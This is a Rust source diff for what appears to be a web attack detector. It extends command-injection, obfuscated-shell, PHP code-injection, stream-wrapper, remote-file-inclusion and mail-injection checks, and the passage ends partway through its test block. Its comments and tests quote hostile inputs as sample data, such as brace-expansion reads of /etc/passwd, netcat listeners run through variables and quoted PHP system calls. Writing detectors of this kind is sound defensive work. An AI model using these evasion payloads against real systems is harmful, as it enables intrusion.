@@ -954,6 +954,8 @@ static STRONG_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> 
         COMMANDS
             .iter()
             .chain(MORE_COMMANDS.iter().filter(|c| c.len() > 2))
+            .chain(super::vocab::UNIX_COMMANDS.iter().filter(|c| c.len() > 2))
+            .chain(super::vocab::WINDOWS_COMMANDS.iter())
             .copied()
             .filter(|c| !WEAK_COMMANDS.contains(c))
             .collect()
@@ -964,6 +966,8 @@ static WEAK_SET: std::sync::LazyLock<std::collections::HashSet<&'static str>> =
         WEAK_COMMANDS
             .iter()
             .chain(MORE_COMMANDS.iter().filter(|c| c.len() <= 2))
+            .chain(super::vocab::UNIX_WEAK_COMMANDS.iter())
+            .chain(super::vocab::UNIX_COMMANDS.iter().filter(|c| c.len() <= 2))
             .copied()
             .collect()
     });
@@ -976,16 +980,60 @@ fn command_base(w: &str) -> &str {
     base.strip_suffix(".exe").unwrap_or(base)
 }
 
+/// A program name without a version suffix (`python3.10` → `python`,
+/// `gcc7.4` → `gcc`): distributions install versioned names beside the
+/// plain one. `None` when there is no suffix or nothing but it.
+fn unversioned(base: &str) -> Option<&str> {
+    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    (stem.len() < base.len()
+        && stem.len() >= 2
+        && base[stem.len()..].starts_with(|c: char| c.is_ascii_digit()))
+    .then_some(stem)
+}
+
+/// Whether a program name (a [`command_base`]) is in the strong set, itself,
+/// without its version suffix, as a member of a prefixed family
+/// ([`super::vocab::prefixed_command`]) or as a subcommand-style name
+/// `prog-thing` of a strong program of four or more letters (`ansible-config`).
+fn strong_base(base: &str) -> bool {
+    STRONG_SET.contains(base)
+        || unversioned(base).is_some_and(|b| STRONG_SET.contains(b))
+        || super::vocab::prefixed_command(base)
+        || base.split_once('-').is_some_and(|(head, tail)| {
+            head.len() >= 4
+                && tail.len() >= 2
+                && tail.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
+                && STRONG_SET.contains(head)
+        })
+}
+
 /// Whether `w` names a program (strong or weak).
 fn is_command(w: &str) -> bool {
     let base = command_base(w);
-    !base.is_empty() && (STRONG_SET.contains(base) || WEAK_SET.contains(base))
+    !base.is_empty()
+        && (strong_base(base)
+            || WEAK_SET.contains(base)
+            || unversioned(base).is_some_and(|b| WEAK_SET.contains(b)))
 }
 
 /// Whether `w` names a program that is not also an everyday word.
 fn is_strong_command(w: &str) -> bool {
     let base = command_base(w);
-    !base.is_empty() && STRONG_SET.contains(base)
+    !base.is_empty() && strong_base(base)
+}
+
+/// Whether the first word of `s` names a program (a strong one, or a weak
+/// one followed by a command-line shape): for headers, which are scanned
+/// only when something in them looks out of place.
+pub fn starts_with_command(s: &str) -> bool {
+    let t = s.trim_start();
+    let end = t.find(char::is_whitespace).unwrap_or(t.len());
+    let w = t[..end].to_ascii_lowercase();
+    let next = t[end..].split_whitespace().next().unwrap_or("");
+    is_strong_command(&w)
+        || is_command(&w)
+            && end < t.len()
+            && (command_line_tail(&t[end..]) || is_strong_command(&next.to_ascii_lowercase()))
 }
 
 /// What follows a weak command word reads as a command line: nothing, an
@@ -1004,10 +1052,15 @@ fn command_line_tail(after: &str) -> bool {
 /// `c''at`, `c"a"t`), `$@`, `${IFS}`/`$IFS$9` → space, `$()`-less globs.
 pub fn shell_fold(s: &str) -> String {
     // Fast path: without these bytes there is nothing to fold (most values).
-    if !s.contains(['$', '\'', '"', '\\', '[']) {
+    if !s.contains(['$', '\'', '"', '\\', '[', '`', '(']) {
         return s.to_owned();
     }
     let s = s
+        // Empty command and process substitutions expand to nothing: `pi``ng`, `ping$()`, `pi<()ng`.
+        .replace("``", "")
+        .replace("$()", "")
+        .replace("<()", "")
+        .replace(">()", "")
         .replace("${ifs}", " ")
         .replace("$ifs$9", " ")
         .replace("$ifs", " ")
@@ -1016,6 +1069,7 @@ pub fn shell_fold(s: &str) -> String {
         .replace("''", "")
         .replace("\"\"", "")
         .replace("\\\n", "");
+    let s = unquote_glued(&s);
     let mut out = String::with_capacity(s.len());
     let b = s.as_bytes();
     let mut i = 0;
@@ -1065,6 +1119,41 @@ pub fn shell_fold(s: &str) -> String {
         out.push(ch);
         i += ch.len_utf8();
     }
+    out
+}
+
+/// Quotes around a short run of letters glued to more letters (`'wh'oami`,
+/// `"w"get`, `c'a't`) are nothing to the shell: dropped. Quotes with a blank
+/// or punctuation beside them are kept.
+fn unquote_glued(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = String::with_capacity(s.len());
+    let mut i = 0;
+    let mut last = 0;
+    while i < b.len() {
+        let q = b[i];
+        if q == b'\'' || q == b'"' {
+            let n = b[i + 1..]
+                .iter()
+                .take(8)
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+            let close = i + 1 + n;
+            if n >= 1
+                && b.get(close) == Some(&q)
+                && (i > 0 && b[i - 1].is_ascii_alphanumeric()
+                    || b.get(close + 1).is_some_and(|c| c.is_ascii_alphanumeric()))
+            {
+                out.push_str(&s[last..i]);
+                out.push_str(&s[i + 1..close]);
+                i = close + 1;
+                last = i;
+                continue;
+            }
+        }
+        i += 1;
+    }
+    out.push_str(&s[last..]);
     out
 }
 
@@ -1235,18 +1324,51 @@ pub fn url_param(
         .filter(|n| !n.is_empty())
         .unwrap_or(name);
     let v = l.trim();
+    // Java's `url:` and `jar:` handlers wrap another URL and fetch it.
+    let (v, wrapped) = match v.strip_prefix("url:").or_else(|| v.strip_prefix("jar:")) {
+        Some(inner) => (inner, true),
+        None => (v, false),
+    };
     let Some((scheme, rest)) = v.split_once("://") else {
+        if wrapped && v.starts_with("file:") {
+            out.push((Class::Rfi, 0.7, "URL handler wrapping a URL"));
+        }
         return out;
     };
     let scheme = scheme.trim();
     if scheme.is_empty()
         || !scheme
             .bytes()
-            .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'+' || c == b'-')
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'+' | b'-' | b'_'))
     {
         return out;
     }
     let host = host_of(rest);
+    let off_site_host = !host.is_empty()
+        && site.is_none_or(|s| host != s.to_ascii_lowercase())
+        && !internal_host(host);
+    if wrapped {
+        out.push((Class::Rfi, 0.7, "URL handler wrapping a URL"));
+    } else if matches!(
+        scheme,
+        "gopher" | "dict" | "ldap" | "ldaps" | "tftp" | "netdoc" | "sftp" | "local_file"
+    ) || scheme == "file" && off_site_host
+        || matches!(scheme, "ftp" | "ftps") && off_site_host
+    {
+        // The application is made to fetch a resource from elsewhere.
+        out.push((Class::Rfi, 0.6, "remote resource URL in parameter"));
+    } else if matches!(scheme, "http" | "https") && off_site_host && {
+        let auth = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
+        // Credentials or a non-default port in an off-site URL: a way to
+        // hide the real host (`http://site%2f@evil/`) or reach a service.
+        auth.contains('@')
+            || rest.contains("/@")
+            || auth.rsplit_once(':').is_some_and(|(_, p)| {
+                !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()) && p != "80" && p != "443"
+            })
+    } {
+        out.push((Class::Rfi, 0.6, "off-site URL with credentials or port"));
+    }
     if matches!(
         scheme,
         "gopher" | "dict" | "ldap" | "tftp" | "jar" | "netdoc" | "sftp"
@@ -1326,14 +1448,14 @@ static SHELL_FUNC: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLo
 
 static WIN_FOR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(
-        r#"(?:^|[;&|(@\s])for(?:\s+/[dlrf](?:\s+(?:"[^"]*"|[a-z]:[^\s]*|[^%\s]+))?)*\s+%%?[~\w@$]*\s+in\s*\(.*\)\s*do\b"#,
+        r#"(?:^|[;&|(@\s])for(?:\s+/[dlrf](?:\s+(?:"[^"]*"|[a-z]:[^\s]*|[^%\s]+))?)*\s+%%?[^\s%]*\s+in\s*\(.*\)\s*do\b"#,
     )
     .ok()
 });
 
 static WIN_IF: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(
-        r#"(?:^|[;&|(@])\s*if(?:\s+/i)?(?:\s+not)?\s+(?:(?:exist|defined)\s+\S+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|\S+\s*(?:==|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*\S+\s+[(@a-z])"#,
+        r#"(?:^|[;&|(@])\s*if(?:\s*/i)?(?:\s+not)?\s+(?:(?:exist|defined)\s+\S+\s+\S|errorlevel\s+\d+\s+\S|cmdextversion\s+\d|\(\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+\s*\)\s+[@a-z]|(?:"[^"]*"|\([^()]*\)|[^\s=(][^\s=]*)\s*(?:={2,3}|\s(?:equ|neq|lss|leq|gtr|geq)\s)\s*(?:"[^"]*"|\([^()]*\)|[^\s=]+)(?:\s+[(@a-z.]|\s*$))"#,
     )
     .ok()
 });
@@ -1344,6 +1466,14 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
         return Some((0.95, "shellshock function definition"));
     }
     let f = shell_fold(l);
+    if let Some(v) = shell_expansion(&f) {
+        return Some(v);
+    }
+    if f.contains('\n')
+        && let Some(v) = mail_command(&f)
+    {
+        return Some(v);
+    }
     // A shell function definition (`f(){ f|f& };f`, `:(){ :|:& };:`): name, `()`, `{`, body, `}`.
     // (`function f() {` is JavaScript/PHP syntax: left to the XSS/PHP checks.)
     // The regexes below each need a byte or word that most values lack:
@@ -1412,6 +1542,34 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
             {
                 return Some((0.9, "command path after separator"));
             }
+            // `;.shell …`, `;\n.system …`: SQLite shell dot-commands that run
+            // programs; `;. rm …`: the shell's `.` (source) builtin.
+            if let Some(r) = rest.strip_prefix('.') {
+                let r = r.trim_start_matches([' ', '\\', '"', '\'']);
+                let w: String = r
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric())
+                    .collect();
+                if matches!(
+                    w.as_str(),
+                    "shell" | "system" | "databases" | "tables" | "dump" | "import" | "load"
+                ) || !w.is_empty() && r.len() > w.len() && is_strong_command(&w)
+                {
+                    return Some((0.8, "shell or SQLite dot-command after separator"));
+                }
+            }
+            // Short unset variables before the command expand to nothing: `;$a cat x`, `|$u wget`.
+            while let Some(r) = rest.strip_prefix('$') {
+                let n = r
+                    .bytes()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
+                    .count();
+                if (1..=4).contains(&n) && r[n..].starts_with([' ', '\t']) {
+                    rest = r[n..].trim_start();
+                } else {
+                    break;
+                }
+            }
             rest = rest.trim_start_matches(['"', '\'']);
             let word: String = rest
                 .chars()
@@ -1450,6 +1608,44 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
         .chars()
         .take_while(|c| !c.is_whitespace())
         .collect();
+    // The first word spelled with quotes or backslashes the shell drops
+    // (`'wh'oami`, `\ls`, `"w"get x`): only evasion writes a program name so.
+    let raw_first = l
+        .trim_start()
+        .split(char::is_whitespace)
+        .next()
+        .unwrap_or("");
+    // The program name: the first word up to a separator or quote.
+    let word: String = first
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'))
+        .collect();
+    if raw_first != first
+        && raw_first.contains(['\'', '"', '\\', '`', '$', '<', '>'])
+        && is_strong_command(&word)
+    {
+        return Some((0.8, "obfuscated command name"));
+    }
+    // A program then a command separator (`whoami;…`, `id|…`, `uname&&…`).
+    if is_strong_command(&word)
+        && word.len() > 2
+        && f.trim_start()[word.len()..].starts_with([';', '|', '`'])
+    {
+        return Some((0.75, "command line"));
+    }
+    if let Some(v) = variable_command(&f) {
+        return Some(v);
+    }
+    // A program's path in a bin directory (`/bin/ab`, `usr/bin/visudo`).
+    let t = f.trim();
+    if let Some((dir, prog)) = t.rsplit_once('/')
+        && (dir.ends_with("bin")
+            && (dir == "bin" || dir.ends_with("/bin") || dir.ends_with("/sbin") || dir == "sbin"))
+        && is_command(prog)
+        && !t.contains(char::is_whitespace)
+    {
+        return Some((0.75, "program path"));
+    }
     // A wrapper running a program: `time sh -c id`, `nice -n 5 nc …`, `env perl -e …`.
     if WRAPPERS.contains(&command_base(&first)) {
         let rest = f.trim_start()[first.len()..].trim_start();
@@ -1463,9 +1659,23 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
             return Some((0.8, "command run by a wrapper"));
         }
     }
+    // A program of a subcommand family or with a version in its name
+    // (`chef-shell`, `ansible-config dump`, `pip3 install x`), alone or with
+    // plain arguments: such names are no words of prose.
+    let fb = command_base(&first);
+    if fb.len() > 3
+        && (fb.contains('-') || unversioned(fb).is_some_and(|b| STRONG_SET.contains(b)))
+        && fb.bytes().next().is_some_and(|c| c.is_ascii_alphabetic())
+        && is_strong_command(&first)
+        && f.split_whitespace().count() <= 6
+    {
+        return Some((0.7, "command line"));
+    }
     if is_command(&first) && first.len() > 1 {
         let rest = f.trim_start()[first.len()..].trim_start();
         if rest.starts_with('-') && rest.len() > 1 && (rest.contains(' ') || rest.len() < 4)
+            || rest.starts_with("--") && rest[2..].starts_with(|c: char| c.is_ascii_alphabetic())
+            || is_strong_command(&first) && strong_command_args(rest)
             || rest.starts_with('/') && rest.len() > 1
             || rest.contains("http://")
                 && (rest.contains('|') || rest.contains(';') || rest.contains("-o"))
@@ -1488,6 +1698,210 @@ pub fn rce(l: &str) -> Option<(f32, &'static str)> {
     None
 }
 
+/// A shell variable assigned a program name and then run (`c=cat&&$c /x`,
+/// `a=nc&&$a -nlvp 555`): `name=value` with a program as value, and `$name`
+/// later at a command position (start, or after a separator or blank).
+fn variable_command(f: &str) -> Option<(f32, &'static str)> {
+    if !f.contains('$') || !f.contains('=') {
+        return None;
+    }
+    let b = f.as_bytes();
+    for (i, _) in f.match_indices('=') {
+        let start = f[..i]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .map_or(0, |p| p + 1);
+        let name = &f[start..i];
+        if name.is_empty() || name.len() > 16 || !name.as_bytes()[0].is_ascii_alphabetic() {
+            continue;
+        }
+        if start > 0 && !matches!(b[start - 1], b';' | b'&' | b'|' | b' ' | b'\n') {
+            continue;
+        }
+        let val: String = f[i + 1..]
+            .chars()
+            .take_while(|c| !matches!(c, ';' | '&' | '|' | ' ' | '\n'))
+            .collect();
+        let val = val.trim_matches(['\'', '"']);
+        if !is_strong_command(val) {
+            continue;
+        }
+        let var = format!("${name}");
+        let later = &f[i..];
+        if later.match_indices(&var).any(|(j, _)| {
+            let before = later[..j].trim_end_matches([' ', '\t']);
+            let after = later[j + var.len()..].chars().next();
+            (before.is_empty() || before.ends_with([';', '&', '|', '\n', '`', '(']))
+                && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
+        }) {
+            return Some((0.85, "program run through a shell variable"));
+        }
+    }
+    None
+}
+
+/// Arguments that make a strong program's line a command line wherever it
+/// stands: an option (`-m`, `--list`), a script/config file argument
+/// (`site.yml`, `x.sh`), a URL, or another program (`time ifconfig`).
+fn strong_command_args(rest: &str) -> bool {
+    const SCRIPT_EXT: &[&str] = &[
+        ".sh", ".py", ".pl", ".rb", ".yml", ".yaml", ".php", ".js", ".conf", ".cfg", ".jar",
+        ".exe", ".bat", ".ps1", ".txt",
+    ];
+    rest.split_whitespace().any(|t| {
+        t.contains("://")
+            || is_strong_command(t)
+            || t.strip_prefix('-')
+                .map(|o| o.trim_start_matches('-'))
+                .is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
+            || t.len() > 3 && SCRIPT_EXT.iter().any(|e| t.ends_with(e))
+    })
+}
+
+static SHELL_EXPANSION: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(
+    || {
+        regex::Regex::new(
+            r#"\$\(\(|\$\[[^\]]{0,40}\]|\$\{#?[a-z_][a-z0-9_]{0,30}(?:[#%^,/]|:[-=+?]|:\d)|(?:^|[;&|\s])alias\s+(?:[-+][\w+]*\s+)*['"]?[^\s='"]{1,40}['"]?\s*="#,
+        )
+        .ok()
+    },
+);
+
+/// Bash-only expansions and builtins in a folded, lower-cased value:
+/// arithmetic `$((…))` / `$[…]`, parameter expansion with an operator
+/// (`${x#…}`, `${path%/*}`, `${v:-d}`), an `alias name=` definition, and a
+/// whole value that is a directory-stack (`~+`, `~-2`) or history (`!!`,
+/// `!-1`) expansion.
+fn shell_expansion(f: &str) -> Option<(f32, &'static str)> {
+    let t = f.trim();
+    let b = t.as_bytes();
+    if b.len() >= 3
+        && b[0] == b'~'
+        && matches!(b[1], b'+' | b'-')
+        && b[2..].iter().all(u8::is_ascii_digit)
+    {
+        return Some((0.6, "shell directory-stack expansion"));
+    }
+    if t == "!!"
+        || t.len() >= 2
+            && t.starts_with('!')
+            && t.split('!').skip(1).all(|e| {
+                let e = e.strip_prefix('-').unwrap_or(e);
+                !e.is_empty() && e.bytes().all(|c| c.is_ascii_digit())
+            })
+    {
+        return Some((0.6, "shell history expansion"));
+    }
+    if f.contains(['$', '='])
+        && let Some(m) = SHELL_EXPANSION.as_ref().and_then(|r| r.find(f))
+    {
+        let rule = if m.as_str().contains("alias") {
+            "shell alias definition"
+        } else {
+            "shell parameter or arithmetic expansion"
+        };
+        return Some((0.75, rule));
+    }
+    None
+}
+
+/// Mail protocol commands on a line of their own after a line break (CRLF
+/// injection into an SMTP, POP3 or IMAP session an application opens): the
+/// verbs of RFC 5321, RFC 1939 and RFC 9051 with their argument shapes.
+fn mail_command(f: &str) -> Option<(f32, &'static str)> {
+    const IMAP: &[&str] = &[
+        "login",
+        "authenticate",
+        "select",
+        "examine",
+        "create",
+        "delete",
+        "rename",
+        "subscribe",
+        "unsubscribe",
+        "list",
+        "lsub",
+        "status",
+        "append",
+        "check",
+        "close",
+        "expunge",
+        "search",
+        "fetch",
+        "store",
+        "copy",
+        "move",
+        "uid",
+        "noop",
+        "logout",
+        "capability",
+        "starttls",
+        "idle",
+        "namespace",
+        "enable",
+        "unselect",
+    ];
+    let num =
+        |w: Option<&str>| w.is_some_and(|w| !w.is_empty() && w.bytes().all(|c| c.is_ascii_digit()));
+    for line in f.split('\n').skip(1) {
+        let line = line.trim_matches(['\r', ' ', '\t']);
+        let mut w = line.split_whitespace();
+        let Some(verb) = w.next() else {
+            continue;
+        };
+        let args: Vec<&str> = w.collect();
+        let smtp = line.starts_with("mail from:")
+            || line.starts_with("rcpt to:")
+            || matches!(verb, "ehlo" | "helo") && args.len() == 1
+            || matches!(verb, "data" | "quit" | "rset" | "starttls") && args.is_empty()
+            || matches!(verb, "vrfy" | "expn") && args.len() == 1
+            || verb == "auth" && auth_args(&args);
+        let pop = matches!(verb, "retr" | "dele" | "list")
+            && args.len() == 1
+            && num(args.first().copied())
+            || verb == "top" && args.len() == 2 && args.iter().all(|a| num(Some(a)))
+            || verb == "apop"
+                && args.len() == 2
+                && args[1].len() == 32
+                && args[1].bytes().all(|c| c.is_ascii_hexdigit());
+        let imap = verb.len() <= 8
+            && verb.bytes().any(|c| c.is_ascii_digit())
+            && verb.bytes().all(|c| c.is_ascii_alphanumeric())
+            && args.first().is_some_and(|c| IMAP.contains(c));
+        if smtp || pop || imap {
+            return Some((0.8, "mail protocol command after line break"));
+        }
+    }
+    None
+}
+
+/// `AUTH` arguments: a SASL mechanism name, or a user and a base64 token.
+fn auth_args(args: &[&str]) -> bool {
+    const MECHS: &[&str] = &[
+        "plain",
+        "login",
+        "cram-md5",
+        "digest-md5",
+        "xoauth2",
+        "oauthbearer",
+        "gssapi",
+        "ntlm",
+        "scram-sha-1",
+        "scram-sha-256",
+        "external",
+        "anonymous",
+    ];
+    match args {
+        [m] | [m, _] if MECHS.contains(m) => true,
+        [_, tok] => {
+            tok.len() >= 12
+                && tok
+                    .bytes()
+                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
+        }
+        _ => false,
+    }
+}
+
 /// Bash brace expansion that spells a command: `{cat,/etc/passwd}` runs
 /// `cat /etc/passwd`; `c{a,oun}t` and `{l,-lh}s` build command words from
 /// pieces. Each `{…,…}` group (no spaces, at most [`MAX_BRACE_ITEMS`] items)
@@ -1502,7 +1916,28 @@ fn brace_expansion(f: &str) -> Option<(f32, &'static str)> {
         let Some(c) = f[o..].find('}').map(|c| c + o) else {
             break;
         };
-        let inner = &f[o + 1..c];
+        let inner_raw = &f[o + 1..c];
+        // ANSI-C and locale quoting of an item (`$'whoami'`, `$"id"`) is the item.
+        let unq = inner_raw
+            .replace("$'", "")
+            .replace("$\"", "")
+            .replace(['\'', '"'], "");
+        let inner = if inner_raw.contains("$'") || inner_raw.contains("$\"") {
+            unq.as_str()
+        } else {
+            inner_raw
+        };
+        if inner.contains(',')
+            && inner.split(',').any(|it| {
+                it.starts_with('/')
+                    && it.contains(['?', '*'])
+                    && GLOB_TARGETS
+                        .iter()
+                        .any(|t| glob_match(it.as_bytes(), t.as_bytes()))
+            })
+        {
+            return Some((0.85, "glob path to shell or system file"));
+        }
         if !inner.contains(',') || inner.contains([' ', '{', '$', '"', ':']) {
             continue;
         }
@@ -1525,6 +1960,8 @@ fn brace_expansion(f: &str) -> Option<(f32, &'static str)> {
             .unwrap_or(f.len());
         let suf = &f[c + 1..suf_end];
         // `{cat,/etc/passwd}`: the first item is the program, the rest its arguments.
+        // Empty items expand to nothing: `{,cd,/etc,}` is `cd /etc`.
+        let items: Vec<&str> = items.into_iter().filter(|a| !a.is_empty()).collect();
         if pre.is_empty()
             && items.len() >= 2
             && (is_strong_command(items[0]) && items[1..].iter().any(|a| !a.is_empty())
@@ -1815,7 +2252,7 @@ const PHP_FUNCS: &[&str] = &[
 
 static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(
-        r#"(?:^|[^\w$])@?\$+[a-z_][a-z0-9_]{0,30}\s*(?:\[[^\]]{0,40}\]\s*)*\(\s*(?:\d|['"$)])"#,
+        r#"(?:^|[^\w$])@?\$+[a-z_][a-z0-9_]{0,30}\s*(?:(?:\[[^\]]{0,40}\]+|\{[^}]{1,40}\})\s*)*\(\s*(?:\d|['"$)])"#,
     )
     .ok()
 });
@@ -1823,6 +2260,49 @@ static PHP_VAR_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::Lazy
 static PHP_DYN_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(r#"\(\s*(?:\(\s*string\s*\)\s*)?["']?[a-z_][a-z0-9_]*["']?(?:\s*\.\s*\(?\s*["']?[a-z0-9_]+["']?\s*\)?)*\s*\)\s*\(\s*["'$]"#).ok()
 });
+
+static PHP_BRACED_CALL: std::sync::LazyLock<Option<regex::Regex>> =
+    std::sync::LazyLock::new(|| regex::Regex::new(r"\$\s*\{[^{}]{1,40}\}\s*\(").ok());
+
+static PHP_LITERAL_CALL: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(
+    || {
+        regex::Regex::new(
+            r#"["'(\[]\s*["']?(system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|create_function|call_user_func|phpinfo)["']?\s*(?:[)\]}"']|\[\s*\d+\s*\]|\{\s*\d+\s*\}|\s)*\(\s*[^()]{0,60}\)"#,
+        )
+        .ok()
+    },
+);
+
+/// See the call site in [`php`]: string concatenation (`"sys"."tem"`) and
+/// `(string)` casts folded first.
+fn php_literal_call(l: &str) -> Option<(f32, &'static str)> {
+    if !l.contains(['"', '\'', '[', '(']) || !l.contains(')') {
+        return None;
+    }
+    let mut f = l.replace("(string)", "").replace("( string )", "");
+    for q in ['"', '\''] {
+        for sep in [".", " .", ". ", " . "] {
+            f = f.replace(&format!("{q}{sep}{q}"), "");
+        }
+    }
+    let m = PHP_LITERAL_CALL.as_ref()?.captures(&f)?;
+    // The literal is code, not prose (`the "system" (as …)`): its quote,
+    // bracket or paren closes right after the name.
+    let (name_start, name_end) = (m.get(1)?.start(), m.get(1)?.end());
+    let after = &f[name_end..];
+    let quoted = f[..name_start].ends_with(['"', '\'']);
+    // A quoted name is called with no blank before `(` (`"system"(`); a
+    // bracketed one may have blanks (`[ system ][ 0 ]( ls )`).
+    let ok = if quoted {
+        after.get(1..).is_some_and(|a| a.starts_with('('))
+            || after
+                .get(1..)
+                .is_some_and(|a| a.starts_with(')') || a.starts_with(']'))
+    } else {
+        after.trim_start().starts_with([')', ']'])
+    };
+    ok.then_some((0.8, "PHP function name called as a literal"))
+}
 
 static PHP_VARVAR: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(
@@ -1839,6 +2319,40 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
             .any(|(i, _)| !l[i + 2..].starts_with("xml"));
     if l.contains("<?php") || l.contains("<?=") || pi {
         return Some((0.95, "PHP open tag"));
+    }
+    // `<?xml` that is no XML declaration (`<?xml version=…`) nor a
+    // `<?xml-stylesheet` instruction: PHP's short open tag followed by code
+    // (`<?xml :echo 1;`, `<?xml(…)`).
+    for (i, _) in l.match_indices("<?xml") {
+        let rest = l[i + 5..].trim_start();
+        if rest.starts_with([':', '(', ';', '$', '@']) {
+            return Some((0.85, "PHP short open tag"));
+        }
+    }
+    // A short open tag ending the value (`…<?`): what follows was cut off or is sent next.
+    if l.trim_end().ends_with("<?") {
+        return Some((0.6, "PHP open tag at value end"));
+    }
+    // PHP stream wrappers (the manual's list): an include() or fopen() target.
+    const WRAPPERS: &[&str] = &[
+        "php://",
+        "phar://",
+        "zip://",
+        "compress.zlib://",
+        "compress.bzip2://",
+        "ssh2.shell://",
+        "ssh2.exec://",
+        "ssh2.tunnel://",
+        "ssh2.sftp://",
+        "ssh2.scp://",
+        "expect://",
+        "glob://",
+        "rar://",
+        "ogg://",
+        "data://",
+    ];
+    if l.contains("://") && WRAPPERS.iter().any(|w| l.contains(w)) {
+        return Some((0.85, "PHP stream wrapper"));
     }
     // `<? php …`, `<?\tphp`, short open tags followed by a statement (`<? echo …`).
     for (i, _) in l.match_indices("<?") {
@@ -1865,7 +2379,14 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
                         Some(b'\n' | b';' | b'"' | b'\'' | b'&')
                     )
                     || l[..i].trim_end().ends_with("-d"))
-                && l[i + d.len()..].trim_start().starts_with('=')
+                // A family prefix (`opcache.`) takes the rest of the directive's name.
+                && {
+                    let mut r = &l[i + d.len()..];
+                    if d.ends_with('.') {
+                        r = r.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.');
+                    }
+                    r.trim_start().starts_with('=')
+                }
             {
                 return Some((0.7, "php.ini directive"));
             }
@@ -1918,8 +2439,8 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
     }
     // `gzuncompress/*x*/(…)`: PHP ignores comments between a name and `(`.
     let folded;
-    let l = if l.contains("/*") {
-        folded = strip_c_comments(l);
+    let l = if l.contains("/*") || l.contains('\n') && l.contains(['#', '/']) {
+        folded = strip_line_comments(&strip_c_comments(l));
         folded.as_str()
     } else {
         l
@@ -1934,7 +2455,7 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
             .map(|(p, c)| p + c.len_utf8())
             .unwrap_or(0);
         let w = &head[w_start..];
-        if PHP_FUNCS.contains(&w) {
+        if PHP_FUNCS.contains(&w) || super::vocab::php_function(w) {
             let prev = head[..w_start].trim_end();
             let ctx_ok = prev.is_empty()
                 || prev.ends_with([
@@ -1980,6 +2501,17 @@ pub fn php(l: &str) -> Option<(f32, &'static str)> {
     if PHP_DYN_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
         return Some((0.75, "PHP dynamic function call"));
     }
+    // A braced variable name called (`${@a}(10)`, `${$foo->bar}(200)`).
+    if (l.contains("${") || l.contains("$ "))
+        && PHP_BRACED_CALL.as_ref().is_some_and(|r| r.is_match(l))
+    {
+        return Some((0.75, "PHP variable function call"));
+    }
+    // An execution function's name as a string or array literal, called:
+    // `"system"(ls)`, `(system)(ls)`, `[system][0](ls)`, `"sys"."tem"('id')`.
+    if let Some(v) = php_literal_call(l) {
+        return Some(v);
+    }
     // Variable variables with a quoted or variable name: `${'a'}`, `$ {$b}`.
     if PHP_VARVAR.as_ref().is_some_and(|r| r.is_match(l)) {
         return Some((0.6, "PHP variable variable"));
@@ -2024,6 +2556,33 @@ const PHP_INI: &[&str] = &[
     "pcre.backtrack_limit",
     "pcre.jit",
 ];
+
+/// `s` without `//` and `#` comments that end at a line break (the line
+/// break kept): PHP ignores them between a function name and its `(`. A
+/// comment with no line break after it is left (it may be a URL or text).
+fn strip_line_comments(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    let lines: Vec<&str> = s.split('\n').collect();
+    for (n, line) in lines.iter().enumerate() {
+        if n > 0 {
+            out.push('\n');
+        }
+        let cut = if n + 1 == lines.len() {
+            None
+        } else {
+            let a = line
+                .find("//")
+                .filter(|&i| i == 0 || line.as_bytes()[i - 1] != b':');
+            let b = line.find('#');
+            match (a, b) {
+                (Some(x), Some(y)) => Some(x.min(y)),
+                (x, y) => x.or(y),
+            }
+        };
+        out.push_str(cut.map_or(line, |c| &line[..c]));
+    }
+    out
+}
 
 /// `s` without its `/* … */` comments (an unclosed one runs to the end).
 fn strip_c_comments(s: &str) -> String {
@@ -2514,6 +3073,94 @@ pub fn probe_path(path_l: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn shell_grammar_additions() {
+        // Vocabulary: programs with versions, subcommand families, CRS-listed names.
+        assert!(rce(";python3.10 -c 'import os'").is_some());
+        assert!(rce("chef-client -t 1.1.1.1").is_some());
+        assert!(rce("ansible all -m ping").is_some());
+        assert!(rce(";htop").is_some());
